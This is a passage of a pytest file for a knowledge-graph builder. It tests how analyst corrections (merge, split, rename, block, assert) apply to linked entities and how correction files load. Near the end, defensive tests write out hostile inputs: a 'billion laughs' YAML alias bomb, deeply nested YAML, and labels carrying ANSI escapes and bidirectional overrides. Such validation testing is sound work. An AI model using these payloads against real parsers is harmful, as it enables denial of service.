    kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Oskar Venn", "Marta Quell"],
                                         "keep": "Marta Quell"},
                                        {"action": "split", "entity": "Marta Quell", "articles": ["a3"]},
                                        {"action": "retype", "entity": "person/Oskar_Venn", "type": "Organization"}))
    ents = _keys(kb)
    assert ents["organization/Oskar_Venn"].articles == ("a3",)
    assert ents["person/Marta_Quell"].type == "Person" and ents["person/Marta_Quell"].articles == ("a1", "a2")


def test_a_split_after_a_chain_of_merges_takes_the_names_and_iris_whose_mentions_it_moves():
    """Alva Lind -> Tova Lind -> Oskar Venn, then the Lind articles split out without a label: the new entity
    is named by the name most of its mentions carry (not the first in the alphabet) and is owl:sameAs the
    other Lind; Oskar Venn, holding no Lind mention, is owl:sameAs neither."""
    corpus = CORPUS + [ex("a4", ("Tova Lind", "Person", "Tova Lind"), ("Brenn", "Place", "Brenn")),
                       ex("a5", ("Tova Lind", "Person", "Tova Lind"), ("Brenn", "Place", "Brenn"),
                          ("Tova Lind", "Person", "Tova Lind"), ("Alva Lind", "Person", "Alva Lind"))]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        kb = link_extractions(corpus, fixes({"action": "merge", "entities": ["Alva Lind", "Tova Lind"],
                                             "keep": "Alva Lind"},
                                            {"action": "merge", "entities": ["Alva Lind", "Oskar Venn"],
                                             "keep": "Oskar Venn"},
                                            {"action": "split", "entity": "Oskar Venn", "articles": ["a4", "a5"]}))
    ents = _keys(kb)
    assert ents["person/Tova_Lind"].articles == ("a4", "a5") and ents["person/Tova_Lind"].mentions == 4
    assert ents["person/Tova_Lind"].same_as == ("person/Alva_Lind",)
    assert ents["person/Oskar_Venn"].same_as == () and ents["person/Oskar_Venn"].articles == ("a3",)


def test_a_split_takes_the_aliases_only_its_mentions_explain():
    corpus = [ex("a1", ("Marta Quell", "Person", "Marta Quell"), ("Quell", "Person", "Quell")),
              ex("a2", ("Oskar Venn", "Person", "Oskar Venn"), ("Venn", "Person", "Venn"))]
    kb = link_extractions(corpus, fixes({"action": "merge", "entities": ["Oskar Venn", "Marta Quell"],
                                         "keep": "Marta Quell"},
                                        {"action": "split", "entity": "Marta Quell", "articles": ["a2"]}))
    ents = _keys(kb)
    assert "Venn" in ents["person/Oskar_Venn"].aliases and "Venn" not in ents["person/Marta_Quell"].aliases
    assert "Quell" in ents["person/Marta_Quell"].aliases


def test_a_split_of_one_name_across_articles_labels_the_new_entity_by_its_articles():
    corpus = [ex("a1", ("Kim", "Person", "Kim")), ex("a2", ("Kim", "Person", "Kim"))]
    kb = link_extractions(corpus, fixes({"action": "split", "entity": "Kim", "articles": ["a2"]}))
    assert {e.label for e in kb.entities} == {"Kim", "Kim (a2)"}


def test_a_rename_onto_another_entitys_label_does_not_take_its_iri():
    with pytest.warns(UserWarning, match="correction #1 rename Oskar Venn -> Marta Quell: another entity is already "
                                         "'person/Marta_Quell'"):  # which item made it
        kb = link_extractions(CORPUS, fixes({"action": "rename", "entity": "Oskar Venn", "label": "Marta Quell"}))
    ents = _keys(kb)
    assert ents["person/Marta_Quell"].articles != ("a3",) and ents["person/Marta_Quell_2"].articles == ("a3",)
    assert ents["person/Marta_Quell_2"].same_as == ("person/Oskar_Venn",)


def test_blocking_a_name_a_merge_absorbed_warns_that_the_merged_entity_goes():
    with pytest.warns(UserWarning, match="'Oskar Venn' was merged into 'person/Marta_Quell'.*whole entity"):
        kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Marta Quell", "Oskar Venn"],
                                             "keep": "Marta Quell"},
                                            {"action": "block", "entity": "Oskar Venn"}))
    assert "person/Marta_Quell" not in _keys(kb) and "person/Oskar_Venn" not in _keys(kb)


@pytest.mark.parametrize("item", [
    {"action": "assert", "subject": "Oskar Venn", "predicate": "livesIn", "object": "Tarnholm"},
    {"action": "retype", "entity": " oskar  VENN ", "type": "Place"},
    {"action": "merge", "entities": ["person/Oskar_Venn", "Marta Quell"]},
])
def test_an_item_naming_a_blocked_entity_says_which_block_removed_it(item):
    with pytest.warns(UserWarning, match=r"no entity .* in the graph \(it was blocked by #1 block Oskar Venn\); skipped"):
        kb = link_extractions(CORPUS, fixes({"action": "block", "entity": "Oskar Venn"}, item))
    assert "person/Oskar_Venn" not in _keys(kb)
    assert not [f for f in kb.facts if f.method == "correction"]


def test_a_provenance_comment_says_what_the_item_made_of_the_entity():
    c = fixes({"action": "rename", "entity": " acme   works", "label": "Acme Corp"},
              {"action": "retype", "entity": "Tarvo", "type": "Place"},
              {"action": "split", "entity": "Kim", "articles": ["a1"], "label": "Kim Sol", "type": "Person"}).items
    assert [i.describe() for i in c] == ["#1 rename acme works -> Acme Corp", "#2 retype Tarvo -> Place",
                                         "#3 split Kim -> Kim Sol (Person)"]


YAML_TEXT = """\
version: 1
corrections:
  - {action: merge, entities: [Borvik, Borvik Mills], keep: Borvik Mills, note: same firm}
  - action: split
    entity: Tarnholm
    context: [coach, match]
    label: Tarnholm FC
    type: Organization
  - action: reject
    subject: Marta Quell
    predicate: worksFor
    object: Borvik Mills
"""


@pytest.mark.parametrize("name", ["fixes.yaml", "fixes.YML"])
def test_a_yaml_file_holds_the_same_items_as_json(tmp_path, name):
    p = tmp_path / name
    p.write_text(YAML_TEXT, encoding="utf-8")
    got = corr.load(p)
    assert [c.action for c in got.items] == ["merge", "split", "reject"]
    assert got.items[0].entities == ("Borvik", "Borvik Mills") and got.items[1].context == ("coach", "match")
    bare = tmp_path / "bare.yaml"  # a bare list of items is read too
    bare.write_text("- {action: block, entity: However}\n", encoding="utf-8")
    assert [c.entity for c in corr.load(bare).items] == ["However"]


def test_a_yaml_name_that_looks_like_a_boolean_or_number_stays_a_name(tmp_path):
    p = tmp_path / "c.yml"
    p.write_text("version: 1\ncorrections:\n  - {action: rename, entity: 2014, label: No}\n", encoding="utf-8")
    (item,) = corr.load(p).items
    assert (item.entity, item.label) == ("2014", "No")


@pytest.mark.parametrize("text, message", [
    ("corrections: [ {action: block\n", "not valid YAML"),
    ("version: 2\ncorrections: []\n", "unsupported corrections version"),
    ("- {action: explode, entity: A}\n", "unknown action"),
    ("just words\n", "expected an object"),
    (f"version: '{'9' * 5000}'\ncorrections: []\n", "unsupported corrections version"),
])
def test_a_bad_yaml_file_is_one_clear_error(tmp_path, text, message):
    p = tmp_path / "c.yaml"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        corr.load(p)


def test_output_corrections_yaml_is_read_by_default_but_not_beside_json(tmp_path):
    from kgraph.build.pipeline import _corrections

    out = tmp_path / "o"
    out.mkdir()
    (out / "corrections.yaml").write_text("- {action: block, entity: However}\n", encoding="utf-8")
    assert [c.entity for c in _corrections(out, None).items] == ["However"]
    (out / "corrections.json").write_text(json.dumps({"version": 1, "corrections": []}), encoding="utf-8")
    with pytest.raises(InputError, match="both corrections.json and corrections.yaml"):
        _corrections(out, None)


def test_a_given_file_is_forgotten_once_the_folder_has_its_own(tmp_path, monkeypatch):
    """--corrections FILE is remembered; once DIR/corrections.json takes over, deleting it leaves no corrections."""
    from kgraph.build import pipeline

    out = tmp_path / "out"
    fix = tmp_path / "fix.json"
    fix.write_text(corr.to_json([{"action": "block", "entity": "Tarnholm"}]), encoding="utf-8")
    _build_corpus_a1_a2(monkeypatch, pipeline, out, fix)
    assert (out / ".kgraph" / "corrections.json").is_file()
    (out / "corrections.json").write_text(corr.to_json([{"action": "block", "entity": "Quell"}]), encoding="utf-8")
    # The given file's items that the folder's own file does not hold stop applying: said once, and kept to copy from.
    with pytest.warns(UserWarning, match=r"corrections.json replaces the corrections given earlier with "
                                         r"--corrections: 1 of their items it does not hold are no longer applied"):
        kb = pipeline.build(["a1", "a2"], output=out).kb
    assert "Tarnholm" in by_label(kb) and not (out / ".kgraph" / "corrections.json").exists()
    replaced = json.loads((out / ".kgraph" / "corrections.replaced.json").read_text(encoding="utf-8"))
    assert replaced["corrections"] == [{"action": "block", "entity": "Tarnholm"}]
    (out / "corrections.json").unlink()
    kb = pipeline.build(["a1", "a2"], output=out).kb
    assert "Tarnholm" in by_label(kb) and not any(e.corrections for e in kb.entities)


def test_a_folder_file_holding_the_given_items_takes_over_without_a_warning(tmp_path, monkeypatch):
    """The analyst copied the given file into DIR (and added to it): nothing is lost, so nothing to say."""
    from kgraph.build import pipeline

    out = tmp_path / "out"
    fix = tmp_path / "fix.json"
    fix.write_text(corr.to_json([{"action": "block", "entity": "Tarnholm"}]), encoding="utf-8")
    _build_corpus_a1_a2(monkeypatch, pipeline, out, fix)
    items = [{"action": "block", "entity": "Tarnholm"}, {"action": "block", "entity": "Marta Quell"}]
    (out / "corrections.json").write_text(corr.to_json(items), encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        kb = pipeline.build(["a1", "a2"], output=out).kb
    assert "Tarnholm" not in by_label(kb) and not list((out / ".kgraph").glob("corrections*.json"))


def test_a_merge_says_when_its_keep_is_none_of_them_or_it_names_one_entity_twice():
    with pytest.warns(UserWarning, match="keep 'Nobody' is none of the merged entities; kept 'person/Marta_Quell'"):
        kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Oskar Venn", "Marta Quell"],
                                             "keep": "Nobody"}))
    assert "person/Oskar_Venn" in _keys(kb)["person/Marta_Quell"].same_as
    with pytest.warns(UserWarning, match="every name is 'person/Oskar_Venn' already; nothing to merge"):
        link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Oskar Venn", " oskar venn"]}))


def test_a_label_a_rename_gave_still_names_the_entity_after_a_merge_took_it():
    """rename, then merge into another: a later item naming the given label finds the merged entity."""
    kb = link_extractions(CORPUS, fixes(
        {"action": "rename", "entity": "Oskar Venn", "label": "Oskar Venn-Halm"},
        {"action": "merge", "entities": ["Marta Quell", "Oskar Venn-Halm"], "keep": "Marta Quell"},
        {"action": "assert", "subject": "oskar venn-halm", "predicate": "worksFor", "object": "Borvik Mills"}))
    marta = _keys(kb)["person/Marta_Quell"]
    # The renamed key existed only between the two items (stop 65: no owl:sameAs of an IRI no graph gave); the
    # IRI the graph gave stays, and so does the renamed one where an earlier build of the folder gave it.
    assert "Oskar Venn-Halm" in marta.aliases and "person/Oskar_Venn" in marta.same_as
    assert "person/Oskar_Venn-Halm" not in marta.same_as
    assert [(f.subject, f.method) for f in kb.facts if f.method == "correction"] == [("person/Marta_Quell", "correction")]
    renamed = link_extractions(CORPUS, fixes({"action": "rename", "entity": "Oskar Venn", "label": "Oskar Venn-Halm"}))
    later = link_extractions(CORPUS, fixes(
        {"action": "rename", "entity": "Oskar Venn", "label": "Oskar Venn-Halm"},
        {"action": "merge", "entities": ["Marta Quell", "Oskar Venn-Halm"], "keep": "Marta Quell"}),
        published=dict(renamed.anchors))
    assert "person/Oskar_Venn-Halm" in _keys(later)["person/Marta_Quell"].same_as


def test_a_merged_iri_the_graph_no_longer_holds_stays_an_owl_sameas():
    """A merge named an IRI that a later build no longer has (the corpus now joins it): links to it still resolve."""
    item = {"action": "merge", "entities": ["person/Marta_Quell", ENTITY_BASE + "person/Marta_Q"],
            "keep": "person/Marta_Quell"}
    with pytest.warns(UserWarning, match="'https://w3id.org/kgraph/id/person/Marta_Q' is no longer in the graph; "
                                         "'person/Marta_Quell' keeps it as owl:sameAs"):
        kb = link_extractions(CORPUS, fixes(item))
    marta = _keys(kb)["person/Marta_Quell"]
    assert "person/Marta_Q" in marta.same_as and marta.corrections
    with pytest.warns(UserWarning, match="no entity 'Marta Q' in the graph; skipped"):  # a name is not an IRI
        kb = link_extractions(CORPUS, fixes({**item, "entities": ["Marta Quell", "Marta Q"]}))
    assert "person/Marta_Q" not in _keys(kb)["person/Marta_Quell"].same_as


@pytest.mark.parametrize("article", ["a3", "https://w3id.org/kgraph/article/a3", "news/a3.txt"])
def test_a_split_names_its_article_by_id_iri_or_file_name(article):
    kb = link_extractions(CORPUS, fixes({"action": "split", "entity": "Tarnholm", "articles": [article],
                                         "label": "Tarnholm FC", "type": "Organization"}))
    assert by_label(kb)["Tarnholm FC"].articles == ("a3",) and by_label(kb)["Tarnholm"].articles == ("a2",)


def test_a_split_naming_an_unknown_article_says_so():
    with pytest.warns(UserWarning, match="no article 'a9' in the graph"):
        link_extractions(CORPUS, fixes({"action": "split", "entity": "Tarnholm", "articles": ["a3", "a9"]}))


def test_the_command_line_shows_the_first_correction_warnings_and_counts_the_rest(capsys):
    """A corrections file made for another corpus may name thousands of absent entities: one line counts the rest."""
    from kgraph import cli

    cli._corrections_warned[0] = 0
    for i in range(cli.MAX_CORRECTION_WARNINGS + 3):
        cli._show_warning(f"correction #{i + 1} block Nobody {i}: no entity 'Nobody {i}' in the graph; skipped",
                          UserWarning, "x.py", 1)
    cli._show_warning("skipping unreadable file a.txt", UserWarning, "x.py", 1)  # other warnings always show
    cli._show_unshown()
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == cli.MAX_CORRECTION_WARNINGS + 2
    assert lines[-2] == "Warning: skipping unreadable file a.txt"
    assert lines[-1] == (f"Warning: 3 more warnings about corrections items not shown "
                         f"(the first {cli.MAX_CORRECTION_WARNINGS} are above)")
    cli._show_unshown()  # counted once per command
    assert capsys.readouterr().err == ""


def test_an_assert_of_a_relation_the_articles_state_keeps_their_evidence_in_the_edge_lists():
    """CSV, GraphML and GEXF give one edge per triple: it names the correction and keeps the article's sentence."""
    from kgraph.graph import export

    kb = link_extractions(CORPUS, fixes({"action": "assert", "subject": "Marta Quell", "predicate": "worksFor",
                                         "object": "Borvik Mills", "note": "her profile"}))
    assert sorted(f.method or "" for f in kb.facts) == ["", "correction"]  # the stated and the asserted fact
    _nodes, edges = export.csv_tables(kb)
    rows = list(csv.DictReader(edges.splitlines()))
    assert len(rows) == 1
    row = rows[0]
    assert row["Methods"] == "correction | rule" and row["Articles"] == "a1" and row["Weight"] == "1"
    assert row["Sentence"] == CORPUS[0].article.text and row["Confidence"] == "1.0"
    assert "a1" in export.graphml(kb) and "correction | rule" in export.gexf(kb)


def test_a_name_copied_with_invisible_characters_at_its_ends_names_the_entity():
    """A zero-width space or a no-break space copied from a web page around a name is no part of it."""
    kb = link_extractions(CORPUS, fixes({"action": "rename", "entity": "\u00a0Tarnholm\u200b\u2060",
                                         "label": "\ufeffTarnholm Town "},
                                        {"action": "block", "entity": "Oskar\u00a0Venn\u200b"}))
    ents = by_label(kb)
    assert "Tarnholm Town" in ents and "Oskar Venn" not in ents


def test_a_reject_naming_a_name_two_entities_carry_and_both_hold_removes_one_and_says_so():
    """'Ann' is a short name of Ann Roe and of Ann Vik, both stated to work for Borvik Mills: the most mentioned."""
    two_anns = [
        ex("b1", ("Ann Roe", "Person", "Ann Roe"), ("Ann", "Person", "Ann"), ("Ann Roe", "Person", "Ann Roe"),
           ("Borvik Mills", "Organization", "Borvik Mills"), relations=[(0, "worksFor", 3)]),
        ex("b2", ("Ann Vik", "Person", "Ann Vik"), ("Ann", "Person", "Ann"),
           ("Borvik Mills", "Organization", "Borvik Mills"), relations=[(0, "worksFor", 2)]),
    ]
    assert len(link_extractions(two_anns).facts) == 2
    with pytest.warns(UserWarning, match=r"'Ann' names 2 entities \(person/Ann_Roe, person/Ann_Vik\); rejected for "
                                         r"the most mentioned, person/Ann_Roe; name one by its key to choose"):
        kb = link_extractions(two_anns, fixes({"action": "reject", "subject": "Ann", "predicate": "worksFor",
                                               "object": "Borvik Mills"}))
    assert [f.subject for f in kb.facts] == ["person/Ann_Vik"]
    kb = link_extractions(two_anns, fixes({"action": "reject", "subject": "person/Ann_Vik", "predicate": "worksFor",
                                           "object": "Borvik Mills"}))
    assert [f.subject for f in kb.facts] == ["person/Ann_Roe"]


def test_another_file_given_to_an_incremental_build_says_which_earlier_items_stop_applying(tmp_path, monkeypatch):
    """--into DIR --corrections new.json replaces the file given before: its items new.json lacks are named lost."""
    from kgraph.build import pipeline

    out = tmp_path / "out"
    first, second = tmp_path / "first.json", tmp_path / "second.csv"
    first.write_text(corr.to_json([{"action": "block", "entity": "Tarnholm"},
                                   {"action": "retype", "entity": "Quell", "type": "Place"}]), encoding="utf-8")
    second.write_text("action,entity,type\nretype,Quell,Place\nblock,Borvik Mills,\n", encoding="utf-8")
    _build_corpus_a1_a2(monkeypatch, pipeline, out, first)
    with pytest.warns(UserWarning, match=r"second.csv replaces the corrections given earlier with --corrections: "
                                         r"1 of their items it does not hold are no longer applied"):
        kb = pipeline.build(["a1", "a2"], output=out, into=True, corrections=second).kb
    ents = by_label(kb)
    assert "Tarnholm" in ents and "Borvik Mills" not in ents and ents["Marta Quell"].type == "Place"
    replaced = json.loads((out / ".kgraph" / "corrections.replaced.json").read_text(encoding="utf-8"))
    assert replaced["corrections"][0] == {"action": "block", "entity": "Tarnholm"}
    remembered = json.loads((out / ".kgraph" / "corrections.json").read_text(encoding="utf-8"))
    assert [i["action"] for i in remembered["corrections"]] == ["retype", "block"]
    with warnings.catch_warnings():  # the same file again: nothing lost, nothing said
        warnings.simplefilter("error")
        pipeline.build(["a1", "a2"], output=out, into=True, corrections=second)


def test_a_split_naming_a_name_two_entities_carry_splits_the_one_named_there():
    """'Pellum' is a town's label and a club's too: a split by the club's article takes the club, and says so."""
    town_and_club = [ex("c1", ("Pellum FC", "Organization", "Pellum FC"), ("Pellum", "Organization", "Pellum")),
                     ex("c2", ("Pellum", "Place", "Pellum"), ("Pellum", "Place", "Pellum"))]
    item = {"action": "split", "entity": "Pellum", "articles": ["c1"], "label": "Pellum Club", "type": "Organization"}
    # "Pellum" beside "Pellum FC" is the club's short name: one node, "Pellum FC".
    with pytest.warns(UserWarning, match=r"'Pellum' names 2 entities \(organization/Pellum_FC, place/Pellum\); "
                                         r"split the one named there, organization/Pellum_FC"):
        kb = link_extractions(town_and_club, fixes(item))
    keys = _keys(kb)
    assert keys["place/Pellum"].articles == ("c2",) and keys["organization/Pellum_Club"].articles == ("c1",)
    assert "organization/Pellum_FC" in keys["organization/Pellum_Club"].same_as
    with pytest.warns(UserWarning, match="'Pellum' is not named in those articles; skipped"):
        link_extractions(town_and_club, fixes({**item, "articles": ["c3"]}))


def test_a_split_naming_one_entity_s_label_and_another_s_alias_takes_the_one_named_in_that_context():
    """A town's label is also a person's alias (his surname): a split by his article takes him, and says so."""
    corpus = [ex("d1", ("Arvo Pellum", "Person", "Arvo Pellum"), ("Pellum", "Person", "Pellum")),
              ex("d2", ("Pellum", "Place", "Pellum"), ("Pellum", "Place", "Pellum"), ("Pellum", "Place", "Pellum"))]
    kb = link_extractions(corpus)
    assert "Pellum" in _keys(kb)["person/Arvo_Pellum"].aliases
    with pytest.warns(UserWarning, match=r"'Pellum' names 2 entities \(person/Arvo_Pellum, place/Pellum\); split "
                                         r"the one named there, person/Arvo_Pellum"):
        kb = link_extractions(corpus, fixes({"action": "split", "entity": "Pellum", "articles": ["d1"],
                                             "label": "Arvo Pellum Jr"}))
    keys = _keys(kb)
    assert keys["place/Pellum"].mentions == 3 and keys["person/Arvo_Pellum_Jr"].articles == ("d1",)
    with pytest.warns(UserWarning, match="'Pellum' is not named in those articles; skipped"):  # before: same
        link_extractions(corpus, fixes({"action": "split", "entity": "Pellum", "articles": ["d3"]}))



_article = _placed  # an extraction from (name, type) pairs, each found after the previous one


#: The town "Velmo" of two stories and the "Velmo" of a match report (its stadium's town): two nodes of one
#: label, keyed place/Velmo and place/Velmo_2.
TWINS = [
    _article("n1", "The mayor of Velmo opened a school in Velmo on Monday.", ("Velmo", "Place"), ("Velmo", "Place")),
    _article("n2", "Ada Roos was born in Velmo. She lives in Velmo.", ("Ada Roos", "Person"), ("Velmo", "Place"),
             ("Velmo", "Place")),
    _article("s1", "Velmo United beat Orvel Rovers 2-1 on Saturday. Velmo scored twice in the first half through "
                   "striker Ivo Tamm. Velmo United play at Velmo Stadium in Velmo.",
             ("Velmo United", "Organization"), ("Velmo", "Person"), ("Ivo Tamm", "Person"),
             ("Velmo United", "Organization"), ("Velmo Stadium", "Place"), ("Velmo", "Person")),
]


def test_an_entity_whose_iri_has_a_number_is_named_by_that_iri_and_keeps_it_when_merged():
    """kgraph review suggests merging place/Velmo and place/Velmo_2 by IRI: the item merges them."""
    assert _keys(link_extractions(TWINS))["place/Velmo_2"].articles == ("s1",)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # not "'place/Velmo_2' is no longer in the graph"
        kb = link_extractions(TWINS, fixes({"action": "merge", "entities": [ENTITY_BASE + "place/Velmo",
                                                                             ENTITY_BASE + "place/Velmo_2"],
                                            "keep": ENTITY_BASE + "place/Velmo"}))
    ents = _keys(kb)
    assert "place/Velmo_2" not in ents and ents["place/Velmo"].articles == ("n1", "n2", "s1")
    assert ents["place/Velmo"].same_as == ("place/Velmo_2",)  # links to the merged IRI still resolve
    kb = link_extractions(TWINS, fixes({"action": "retype", "entity": "place/Velmo_2", "type": "Organization"}))
    retyped = [e for e in kb.entities if e.type == "Organization" and e.articles == ("s1",) and e.mentions == 3]
    assert len(retyped) == 1 and retyped[0].same_as == ("place/Velmo_2",)
    assert _keys(kb)["place/Velmo"].articles == ("n1", "n2")


@pytest.mark.parametrize("first, ref", [
    ({"action": "rename", "entity": "Borvik", "label": "Borvik Group"}, ENTITY_BASE + "organization/Borvik_Group"),
    ({"action": "retype", "entity": "Borvik", "type": "Place"}, "place/Borvik"),
    ({"action": "split", "entity": "Tarnholm", "articles": ["a3"]}, "Tarnholm (a3)"),
    ({"action": "split", "entity": "Tarnholm", "articles": ["a3"]}, "place/" + slug("Tarnholm (a3)")),
    ({"action": "split", "entity": "Tarnholm", "articles": ["a3"], "label": "Tarnholm Rovers"}, "place/Tarnholm_Rovers"),
])
def test_the_iri_or_label_an_item_gives_names_the_entity_in_later_items(first, ref):
    """The analyst reads the corrected graph and adds an item naming the IRI or label seen there."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # not "no entity ... in the graph; skipped"
        kb = link_extractions(CORPUS, fixes(first, {"action": "retype", "entity": ref, "type": "Person"}))
    made = [e for e in kb.entities if e.type == "Person" and e.articles == ("a3",) and e.key != "person/Oskar_Venn"]
    assert len(made) == 1 and made[0].corrections[-1].startswith("#2 retype")


def test_a_name_typed_without_its_accents_names_the_entity():
    corpus = CORPUS + [ex("a4", ("Élise Daré", "Person", "Élise Daré"), ("Brenn", "Place", "Brenn"))]
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # not "no entity 'elise dare' in the graph; skipped"
        kb = link_extractions(corpus, fixes({"action": "rename", "entity": "elise  dare", "label": "Élise Daré-Voss"},
                                            {"action": "assert", "subject": "Elise Dare-Voss", "predicate": "livesIn",
                                             "object": "Brenn"}))
    ents = _keys(kb)
    assert ents["person/Élise_Daré-Voss"].same_as == ("person/Élise_Daré",)
    assert [(f.subject, f.predicate, f.object) for f in kb.facts if f.method == "correction"] == [
        ("person/Élise_Daré-Voss", "livesIn", "place/Brenn")]


def test_a_name_typed_with_its_umlauts_spelt_out_names_the_entity():
    """An English keyboard types "Joern Voessler" for "Jörn Vössler", and a corpus may spell "Uwe Straeter"."""
    corpus = CORPUS + [ex("a4", ("Jörn Vössler", "Person", "Jörn Vössler"), ("Brenn", "Place", "Brenn")),
                       ex("a5", ("Uwe Straeter", "Person", "Uwe Straeter"), ("Brenn", "Place", "Brenn"))]
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # not "no entity 'Joern Voessler' in the graph; skipped"
        kb = link_extractions(corpus, fixes({"action": "retype", "entity": "Joern Voessler", "type": "Organization"},
                                            {"action": "assert", "subject": "Joern Voessler", "predicate": "basedIn",
                                             "object": "Brenn"},
                                            {"action": "block", "entity": "Uwe Sträter"}))
    ents = _keys(kb)
    assert ents["organization/Jörn_Vössler"].same_as == ("person/Jörn_Vössler",)
    assert "person/Uwe_Straeter" not in ents
    assert [(f.subject, f.predicate, f.object) for f in kb.facts if f.method == "correction"] == [
        ("organization/Jörn_Vössler", "basedIn", "place/Brenn")]


def test_warnings_and_provenance_name_an_entity_by_its_numbered_key():
    """'Velmo' names place/Velmo and place/Velmo_2: the warning offers both keys, the block removes place/Velmo_2."""
    with pytest.warns(UserWarning, match=r"'Velmo' names 2 entities \(place/Velmo, place/Velmo_2\)"):
        kb = link_extractions(TWINS, fixes({"action": "retype", "entity": "Velmo", "type": "Organization"},
                                           {"action": "block", "entity": ENTITY_BASE + "place/Velmo_2"}))
    assert kb.removed == ("#2 block https://w3id.org/kgraph/id/place/Velmo_2: removed place/Velmo_2 "
                          "(3 mentions in 1 article)",)


@pytest.mark.parametrize("ref", [ENTITY_BASE + "person/%C3%89lise_Dar%C3%A9",  # copied from a browser
                                 "<" + ENTITY_BASE + "person/Élise_Daré>"])  # copied from Turtle
def test_an_iri_copied_percent_encoded_or_in_angle_brackets_names_the_entity(ref):
    corpus = CORPUS + [ex("a4", ("Élise Daré", "Person", "Élise Daré"), ("Brenn", "Place", "Brenn"))]
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # not "no entity ... in the graph; skipped"
        kb = link_extractions(corpus, fixes({"action": "retype", "entity": ref, "type": "Organization"},
                                            {"action": "assert", "subject": ref, "predicate": "basedIn",
                                             "object": "Brenn"}))
    assert "organization/Élise_Daré" in _keys(kb)
    assert [(f.subject, f.object) for f in kb.facts if f.method == "correction"] == [
        ("organization/Élise_Daré", "place/Brenn")]


@pytest.mark.parametrize("text", ["corrections: " + "[" * 100_000 + "]" * 100_000 + "\n",
                                  "corrections:\n - " + "{a: " * 50_000 + "x" + "}" * 50_000 + "\n"])
def test_a_yaml_file_nested_too_deeply_is_one_clear_error(tmp_path, text):
    p = tmp_path / "deep.yaml"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match="not valid YAML \\(nested too deeply\\)"):
        corr.load(p)


def test_yaml_aliases_that_expand_past_the_file_limit_are_refused(tmp_path, monkeypatch):
    from kgraph.core import userfile

    monkeypatch.setattr(userfile, "MAX_BYTES", 100_000)
    big = "Z" * 10_000  # 200 renames of one 10 kB label, each written into the graph: 2 MB from a 10 kB file
    p = tmp_path / "amp.yaml"
    p.write_text(f'big: &s "{big}"\ncorrections:\n' + " - {action: rename, entity: Anton Moreau, label: *s}\n" * 200,
                 encoding="utf-8")
    with pytest.raises(InputError, match="aliases .* expand it past 100,000 bytes"):
        corr.load(p)
    laughs = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]  # nested aliases: 10**9 strings
    laughs += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    p.write_text("\n".join(laughs) + "\ncorrections:\n - {action: merge, entities: *a9}\n", encoding="utf-8")
    with pytest.raises(InputError, match="expand it past"):
        corr.load(p)
    small = tmp_path / "ok.yaml"  # an anchor used a few times stays fine
    small.write_text('note: &n "seen in a4"\ncorrections:\n - {action: block, entity: However, note: *n}\n'
                     " - {action: block, entity: Meanwhile, note: *n}\n", encoding="utf-8")
    assert [c.note for c in corr.load(small).items] == ["seen in a4", "seen in a4"]


def test_a_label_with_a_lone_surrogate_or_controls_is_cleaned_as_article_text_is(tmp_path):
    p = tmp_path / "c.json"
    p.write_text('{"corrections": [{"action": "rename", "entity": "Anton Moreau\\u0000",'
                 ' "label": "An\\u202eton \\u001b[31mMoreau\\ud800"}]}', encoding="utf-8")
    (item,) = corr.load(p).items
    assert item.entity == "Anton Moreau"
    assert item.label == "Anton [31mMoreau\ufffd"  # the control character's space and the one after: one
    item.label.encode("utf-8")  # every output is UTF-8: a lone surrogate had ended the build in a traceback


def test_a_reject_removes_the_home_country_identity_gave_a_state_body():
    corpus = [ex(a, ("Interior Ministry", "Organization", "Interior Ministry"), ("Veltria", "Country", "Veltria"))
              for a in ("a1", "a2")]
    assert [(f.predicate, f.object) for f in link_extractions(corpus).facts] == [("basedIn", "country/Veltria")]
    item = {"action": "reject", "subject": "Interior Ministry (Veltria)", "predicate": "basedIn", "object": "Veltria"}
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the relation is found: no warning
        kb = link_extractions(corpus, fixes(item))
    assert kb.facts == ()
    # Retyped to a place, the body is no organization to be based anywhere.
    retype = {"action": "retype", "entity": "Interior Ministry (Veltria)", "type": "Place"}
    assert link_extractions(corpus, fixes(retype)).facts == ()


def test_an_assert_of_a_relation_extraction_found_counts_once_in_the_build_summary():
    from kgraph.build.pipeline import BuildResult

    kb = link_extractions(CORPUS, fixes({"action": "assert", "subject": "Marta Quell", "predicate": "worksFor",
                                         "object": "Borvik Mills", "note": "confirmed by phone"}))
    same = [f for f in kb.facts if (f.subject, f.predicate) == ("person/Marta_Quell", "worksFor")]
    assert sorted(f.method or "" for f in same) == ["", "correction"]  # both provenances kept
    assert "relations: 1 (worksFor 1)" in BuildResult(kb).summary()


# --- IRIs an earlier build gave stay resolvable when a grown corpus names the entity otherwise.

VELT_A_PERSON = ex("a1", ("Velt", "Person", "Velt"), ("Tarnholm", "Place", "Tarnholm"))
VELT_A_PLACE = ex("a2", ("Velt", "Place", "Velt"), ("Velt", "Place", "Velt"), ("Oskar Venn", "Person", "Oskar Venn"))


def test_a_key_a_grown_corpus_no_longer_gives_stays_sameas_of_the_entity_holding_its_mentions():
    """One story reads "Velt" a person; two more mentions elsewhere make it a place: person/Velt still resolves."""
    first = link_extractions([VELT_A_PERSON])
    assert [e.key for e in first.entities] == ["person/Velt", "place/Tarnholm"]
    grown = _keys(link_extractions([VELT_A_PERSON, VELT_A_PLACE], published=dict(first.anchors)))
    assert grown["place/Velt"].same_as == ("person/Velt",)
    assert grown["place/Tarnholm"].same_as == ()  # a key still given is no sameAs of anything
    # Without the earlier build's keys the grown corpus says nothing of them (a fresh build).
    assert _keys(link_extractions([VELT_A_PERSON, VELT_A_PLACE]))["place/Velt"].same_as == ()


def test_a_correction_naming_a_key_an_earlier_build_gave_still_applies():
